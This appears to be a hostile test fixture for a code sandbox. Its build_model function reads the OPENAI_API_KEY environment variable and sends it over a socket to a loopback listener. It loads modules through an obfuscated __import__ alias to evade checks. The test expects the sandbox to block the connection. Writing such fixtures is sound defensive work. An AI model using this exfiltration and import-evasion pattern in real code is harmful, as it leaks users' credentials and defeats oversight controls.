"""Hostile: connects to a listener on the host's loopback (the test fills in the port) and sends the
API key. Expect a candidate_error, and nothing ever reaching the listener."""
load = [__import__][0]
os, socket = load("os"), load("socket")
PORT = int("__PORT__")


def build_model(task):
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
        conn.sendall(f"key={os.environ.get('OPENAI_API_KEY')}".encode())
    raise RuntimeError("connected to the host")
